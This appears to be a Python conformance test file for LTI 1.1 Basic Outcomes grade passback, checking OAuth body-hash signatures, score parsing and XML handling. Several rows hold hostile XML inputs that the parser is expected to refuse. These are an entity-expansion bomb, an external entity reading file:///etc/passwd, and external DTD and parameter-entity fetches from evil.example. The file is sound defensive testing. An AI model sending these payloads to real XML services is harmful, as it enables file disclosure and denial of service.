"""Checklist 3.4: Basic Outcomes, as a platform receives them and a tool reads the answers."""

from decimal import Decimal
from functools import partial
from hashlib import sha256
from urllib.parse import quote

from isodesk.lti import media, oauth1, outcomes
from isodesk.lti.errors import ParameterRefused
from isodesk.lti.outcomes import CodeMajor, Operation, OutcomeAnswer, OutcomeRequest, xml
from tests.lti.checklist import ACCEPTED, Row
from tests.lti.launches import KEY, MINIMAL, NONCE, NOW, SECRET, signed, verified

URL = "https://lms.example/outcomes?course=7"
REQUEST = OutcomeRequest(Operation.REPLACE, "message-1", "course-7:u-17", Decimal("0.92"))
BODY = outcomes.build_request(REQUEST)
ANSWER = OutcomeAnswer(CodeMajor.SUCCESS, "answer-1", "message-1", Operation.REPLACE)
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>\n'
BOMB = b'<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY c "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><b>&c;</b>'


def header(body: bytes = BODY, *, secret: str = SECRET, at: float = NOW) -> str:
    return outcomes.authorization_header(URL, body, key=KEY, secret=secret, now=at, nonce=NONCE)


def received(body: bytes = BODY, authorization: str | None = None, *, now: float = NOW) -> OutcomeRequest:
    """What the platform makes of it: first the signature, then the document."""
    outcomes.verify(URL, header(body) if authorization is None else authorization, body, secret=SECRET, now=now)
    return outcomes.parse_request(body)


def hashed(body_hash: str | None) -> OutcomeRequest:
    """A genuine signature over another hash, or over none."""
    pairs = oauth1.protocol_parameters(key=KEY, now=NOW, nonce=NONCE)
    if body_hash is not None:
        pairs.append(("oauth_body_hash", body_hash))
    pairs.append(("oauth_signature", oauth1.signature(URL, pairs, secret=SECRET)))
    return received(authorization="OAuth " + ",".join(f'{name}="{quote(value, safe="")}"' for name, value in pairs))


def replaced(old: str, new: str) -> OutcomeRequest:
    """The document with one place changed, genuinely signed."""
    assert old in BODY.decode()
    return received(BODY.decode().replace(old, new).encode())


def scored(text: str) -> OutcomeRequest:
    return replaced("<textString>0.92</textString>", f"<textString>{text}</textString>")


def answered(old: bytes = b"", new: bytes = b"", *, answer: OutcomeAnswer = ANSWER, message: str = "message-1") -> None:
    """What the tool makes of an answer with one place changed."""
    outcomes.check_answer(outcomes.parse_answer(outcomes.build_answer(answer).replace(old, new)), message)


def answered_with(code: CodeMajor) -> None:
    answered(answer=OutcomeAnswer(code, "answer-1", "message-1", Operation.REPLACE))


def raw_answer(body: bytes) -> None:
    outcomes.check_answer(outcomes.parse_answer(body), "message-1")


def echoed() -> None:
    """What stands in the identifiers comes back as it was, and the document is one."""
    odd = OutcomeRequest(Operation.REPLACE, "<1>&\"'\r\n", "<&>\"'\r", Decimal(1))
    assert outcomes.parse_request(outcomes.build_request(odd)) == odd
    refusal = outcomes.refusal(outcomes.ResultUnknown(), outcomes.build_request(odd), message_id="a")
    read = outcomes.parse_answer(outcomes.build_answer(refusal))
    assert (read.code, read.message_ref) == (CodeMajor.FAILURE, odd.message_id)
    raise outcomes.ResultUnknown


def read_nothing() -> None:
    """A result that has no score, as before it was given and after it was deleted."""
    asked = OutcomeRequest(Operation.READ, "m", "s")
    body = outcomes.build_answer(outcomes.answer_to(asked, message_id="a"))
    assert b"<textString></textString>" in body
    assert outcomes.parse_answer(body).score is None


def refused_as_unsupported(body: bytes) -> None:
    """The answer says so in the specification's own word."""
    try:
        outcomes.parse_request(body)
    except outcomes.OperationUnsupported as error:
        answer = outcomes.build_answer(outcomes.refusal(error, body, message_id="a"))
        outcomes.check_answer(outcomes.parse_answer(answer), "message-1")


def of_media(content_type: str) -> None:
    if not media.is_of(content_type, outcomes.CONTENT_TYPE):
        raise ParameterRefused(name="content-type")


def nothing_to_send(**given: str) -> None:
    """A launch that says only half of where a grade goes says nothing."""
    assert verified(signed({**MINIMAL, **given})).outcome is None


def web_only(url: str) -> None:
    outcomes.authorization_header(url, BODY, key=KEY, secret=SECRET, now=NOW, nonce=NONCE)


NAMESPACE = xml.NAMESPACE.encode()
SCORES_REFUSED = [
    "-0.01",
    "1.01",
    "10",
    "0,5",
    "nan",
    "1e5",
    "",
    "１",
    "0.5 ",
    "+0.5",
    "1_0",
    "0x1",
    "inf",
    "0." + "9" * 99,
]
ROWS = [
    Row("BO-01", "valid replaceResult", ACCEPTED, received),
    Row("BO-01", "the answer to it", ACCEPTED, answered),
    Row("BO-02", "body altered", "body_hash_wrong", lambda: received(BODY.replace(b"0.92", b"1.00"), header())),
    Row("BO-03", "no oauth_body_hash", "parameter_missing", partial(hashed, None)),
    Row("BO-03", "a hash by SHA-256", "body_hash_wrong", lambda: hashed(sha256(BODY).hexdigest())),
    Row("BO-03", "an empty hash", "parameter_missing", partial(hashed, "")),
    Row("BO-04", "wrong secret", "signature_wrong", lambda: received(authorization=header(secret="another"))),
    Row("BO-04", "timestamp 301 s old", "timestamp_outside", lambda: received(authorization=header(at=NOW - 301))),
    Row("BO-04", "no signature at all", "parameter_missing", lambda: received(authorization="Basic eDp5")),
    Row("BO-06", "entity bomb", "xml_refused", partial(received, DECLARATION + BOMB)),
    Row(
        "BO-06",
        "external entity",
        "xml_refused",
        partial(received, b'<!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]><b>&x;</b>'),
    ),
    Row(
        "BO-06",
        "external DTD",
        "xml_refused",
        partial(received, b'<!DOCTYPE b SYSTEM "http://evil.example/x.dtd"><b/>'),
    ),
    Row(
        "BO-06",
        "parameter entity",
        "xml_refused",
        partial(received, b'<!DOCTYPE b [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><b/>'),
    ),
    Row("BO-06", "an empty document type", "xml_refused", partial(received, b"<!DOCTYPE b><b/>")),
    Row("BO-07", "no XML", "xml_refused", partial(received, b"hello")),
    Row("BO-07", "truncated", "xml_refused", partial(received, BODY[:-30])),
    Row("BO-07", "empty", "xml_refused", partial(received, b"")),
    Row("BO-07", "UTF-16", "xml_refused", partial(received, BODY.decode().encode("utf-16"))),
    Row("BO-07", "said to be UTF-16", "xml_refused", partial(received, BODY.replace(b"UTF-8", b"UTF-16"))),
    Row("BO-07", "a byte order mark", "xml_refused", partial(received, b"\xef\xbb\xbf" + BODY)),
    Row("BO-07", "10 MB", "too_large", lambda: received(b"<b>" + b"x" * 10_000_000 + b"</b>")),
    Row("BO-07", "200,000 nested tags", "too_large", lambda: received(b"<b>" * 200_000)),
    Row("BO-07", "9,000 nested tags", "operation_unsupported", lambda: received(b"<b>" * 9_000 + b"</b>" * 9_000)),
    Row(
        "BO-08",
        "another namespace",
        "answered_with_failure",
        lambda: refused_as_unsupported(BODY.replace(b"ltiv1p1", b"x")),
    ),
    Row(
        "BO-08",
        "no namespace",
        "answered_with_failure",
        lambda: refused_as_unsupported(BODY.replace(b" xmlns=", b" x=")),
    ),
    Row(
        "BO-08",
        "unknown operation",
        "answered_with_failure",
        lambda: refused_as_unsupported(BODY.replace(b"replaceResultRequest", b"eraseResultRequest")),
    ),
    Row("BO-08", "another root", "operation_unsupported", partial(replaced, "EnvelopeRequest", "Letter")),
    Row(
        "BO-08", "two operations", "operation_unsupported", partial(replaced, "</imsx_POXBody>", "<b/></imsx_POXBody>")
    ),
    Row(
        "BO-09", "no messageIdentifier", "parameter_missing", partial(replaced, "imsx_messageIdentifier", "imsx_other")
    ),
    Row("BO-09", "empty messageIdentifier", "parameter_missing", partial(replaced, ">message-1<", "> <")),
    Row("BO-09", "no sourcedId", "parameter_missing", partial(replaced, "sourcedId>", "other>")),
    Row("BO-09", "empty sourcedId", "parameter_missing", partial(replaced, ">course-7:u-17<", "><")),
    *(Row("BO-10", f"score {text[:9]!r}", "parameter_refused", partial(scored, text)) for text in SCORES_REFUSED),
    Row("BO-10", "no score", "parameter_refused", partial(replaced, "textString>", "other>")),
    *(
        Row("BO-11", f"score {text}", ACCEPTED, partial(scored, text))
        for text in ("0", "1", "0.0", "1.0", "0.92", ".5")
    ),
    Row("BO-12", "awkward identifiers, echoed", "result_unknown", echoed),
    Row("BO-13", "Content-Type of a form", "parameter_refused", partial(of_media, "application/x-www-form-urlencoded")),
    Row("BO-13", "Content-Type of XML", ACCEPTED, partial(of_media, "Application/XML; charset=UTF-8")),
    Row("BO-14", "nothing to read", ACCEPTED, read_nothing),
    *(
        Row("BO-15", f"answer {code.value}", "answered_with_failure", partial(answered_with, code))
        for code in CodeMajor
        if code is not CodeMajor.SUCCESS
    ),
    Row("BO-15", "answer to another message", "answered_with_failure", partial(answered, message="message-2")),
    Row("BO-15", "answer without a code", "parameter_refused", partial(answered, b"success", b"perhaps")),
    Row(
        "BO-15", "answer in HTML", "xml_refused", partial(raw_answer, b"<!DOCTYPE html><html><body>Oops</body></html>")
    ),
    Row("BO-15", "answer in XHTML", "xml_refused", partial(raw_answer, b"<html><body>Oops</body></html>")),
    Row("BO-15", "answer with a bomb", "xml_refused", partial(raw_answer, BOMB)),
    Row("BO-15", "huge answer", "too_large", lambda: raw_answer(b"x" * 1_000_000)),
    Row("BO-15", "answer with blank lines around", ACCEPTED, partial(answered, DECLARATION, b"\r\n " + DECLARATION)),
    Row("BO-15", "answer in another namespace", ACCEPTED, partial(answered, NAMESPACE, b"urn:other")),
    Row(
        "BO-15",
        "answer with a byte order mark",
        ACCEPTED,
        partial(answered, DECLARATION, b"\xef\xbb\xbf" + DECLARATION),
    ),
    Row("BO-16", "no lis_result_sourcedid", ACCEPTED, partial(nothing_to_send, lis_outcome_service_url=URL)),
    Row("BO-16", "no lis_outcome_service_url", ACCEPTED, partial(nothing_to_send, lis_result_sourcedid="7:17")),
    *(
        Row("BO-17", f"outcome address {url}", "address_not_web", partial(web_only, url))
        for url in ("file:///etc/passwd", "ftp://lms.example/x", "//lms.example/x", "")
    ),
]
